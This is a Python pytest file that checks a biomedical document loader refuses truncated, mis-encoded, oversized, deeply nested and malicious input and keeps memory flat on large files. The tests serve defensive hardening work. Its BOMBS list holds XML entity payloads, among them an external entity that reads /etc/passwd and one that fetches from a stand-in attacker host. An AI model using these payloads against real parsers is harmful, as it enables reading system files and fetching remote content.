"""Documents that are cut off, mis-encoded, oversized or malicious, and files of any length."""

from __future__ import annotations

import json
import tracemalloc
from collections.abc import Callable
from itertools import islice
from pathlib import Path

import pytest

from kg.errors import SourceFormatError
from loaders.documents import open_documents
from tests.loaders.format_samples import BY_ID, SAMPLES, Sample

LONGEST = 5_000


@pytest.mark.parametrize("sample", [s for s in SAMPLES if s.cut], **BY_ID)
def test_a_file_that_is_cut_off_is_refused(sample: Sample, tmp_path: Path) -> None:
    path = sample.put(tmp_path)
    content = path.read_text("utf-8")
    at = content.index(sample.cut) + len(sample.cut)
    path.write_text(content[:at], encoding="utf-8", newline="")
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format))


@pytest.mark.parametrize("sample", SAMPLES, **BY_ID)
@pytest.mark.parametrize(
    ("content", "what"),
    [(b"\x00" * 20, "NUL"), (b"caf\xe9 \xff\xfe\n", "mis-encoded"), (b"", "empty")],
    ids=["nul", "mis-encoded", "empty"],
)
def test_binary_mis_encoded_and_empty_files_are_refused(
    sample: Sample, tmp_path: Path, content: bytes, what: str
) -> None:
    path = sample.put(tmp_path)
    path.write_bytes(content)
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format))


@pytest.mark.parametrize("sample", SAMPLES, **BY_ID)
def test_bad_bytes_in_the_middle_name_the_file(sample: Sample, tmp_path: Path) -> None:
    path = sample.put(tmp_path)
    raw = path.read_bytes()
    word = sample.texts[-1].split()[0].encode()[:6]
    at = raw.rfind(word) if word in raw else len(raw) // 2
    for bad in (b"\x00", b"\xff\xfe"):
        path.write_bytes(raw[: at + 1] + bad + raw[at + 1 :])
        with pytest.raises(SourceFormatError, match=path.name):
            list(open_documents(path, sample.format))


@pytest.mark.parametrize("sample", SAMPLES, **BY_ID)
def test_a_huge_line_is_refused_before_it_fills_the_memory(sample: Sample, tmp_path: Path) -> None:
    """One value of many times the limit, with a small limit, as one of 100 MB with the real one."""
    path = sample.put(tmp_path)
    word = sample.texts[-1].split()[0]
    word = word if word in path.read_text("utf-8") else word[:1]
    content = path.read_text("utf-8")
    path.write_text(content.replace(word, word + "x" * 200_000), encoding="utf-8", newline="")
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format, longest=LONGEST))


BOMBS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>',
)


@pytest.mark.parametrize("sample", [s for s in SAMPLES if s.markup], **BY_ID)
@pytest.mark.parametrize("bomb", BOMBS, ids=["entities", "outside", "parameter"])
def test_bombs_are_refused(sample: Sample, tmp_path: Path, bomb: str) -> None:
    path = sample.put(tmp_path)
    content = path.read_text("utf-8").replace('<!DOCTYPE collection SYSTEM "BioC.dtd">', "")
    head, body = content.split("?>", 1) if "?>" in content else ("", content)
    path.write_text((f"{head}?>" if head else "") + bomb + body, encoding="utf-8")
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format))


@pytest.mark.parametrize("sample", [s for s in SAMPLES if s.markup], **BY_ID)
def test_deep_nesting_is_refused(sample: Sample, tmp_path: Path) -> None:
    path = sample.put(tmp_path)
    content = path.read_text("utf-8")
    at = content.rindex("</")
    path.write_text(content[:at] + "<a>" * 50_000 + content[at:], encoding="utf-8")
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format))


def test_half_a_character_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "n.jsonl"
    path.write_text('{"id": 1, "text": "a \\ud800 b"}', "utf-8")
    with pytest.raises(SourceFormatError, match="half a character"):
        list(open_documents(path))


WORDS = "Migraine is treated with propranolol. " * 20


def _in_bundle(number: int) -> str:
    note = {"id": str(number), "resourceType": "Condition", "code": {"text": "Asthma"}}
    entry = {"resource": {**note, "note": [{"text": WORDS}]}}
    return ("," if number else "") + json.dumps(entry)


def _in_collection(number: int) -> str:
    document = {"id": f"x{number}", "passages": [{"offset": 0, "text": WORDS}]}
    return ("," if number else "") + json.dumps(document)


LARGE: dict[str, tuple[str, str, Callable[[int], str], str]] = {
    "jsonl": ("n.jsonl", "", lambda n: json.dumps({"id": n, "text": WORDS}) + "\n", ""),
    "table": ("n.csv", "id,text\n", lambda n: f"{n},{WORDS}\n", ""),
    "pubtator": ("n.pubtator", "", lambda n: f"{n}|t|T\n{n}|a|{WORDS}\n\n", ""),
    "fhir": ("n.json", '{"resourceType": "Bundle", "entry": [', _in_bundle, "]}"),
    "bioc-json": ("n.json", '{"source": "x", "documents": [', _in_collection, "]}"),
    "bioc-xml": (
        "n.xml",
        "<collection>",
        lambda n: (
            f"<document><id>{n}</id><passage><offset>0</offset><text>{WORDS}</text></passage>"
            "</document>"
        ),
        "</collection>",
    ),
    "pubmed": (
        "n.xml",
        "<PubmedArticleSet>",
        lambda n: (
            f"<PubmedArticle><PMID>{n}</PMID><Abstract><AbstractText>{WORDS}</AbstractText>"
            "</Abstract></PubmedArticle>"
        ),
        "</PubmedArticleSet>",
    ),
}


@pytest.mark.parametrize("name", LARGE)
def test_memory_does_not_grow_with_the_file(name: str, tmp_path: Path) -> None:
    file, head, row, tail = LARGE[name]
    path = tmp_path / file
    with path.open("w", encoding="utf-8") as stream:
        stream.write(head)
        stream.writelines(map(row, range(3_000)))
        stream.write(tail)
    documents = open_documents(path, name)
    tracemalloc.start()
    try:
        early = max(tracemalloc.get_traced_memory()[1] for _ in islice(documents, 300))
        assert sum(1 for _ in documents) == 2_700
        late = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert path.stat().st_size > 2_000_000
    assert late - early < 600_000
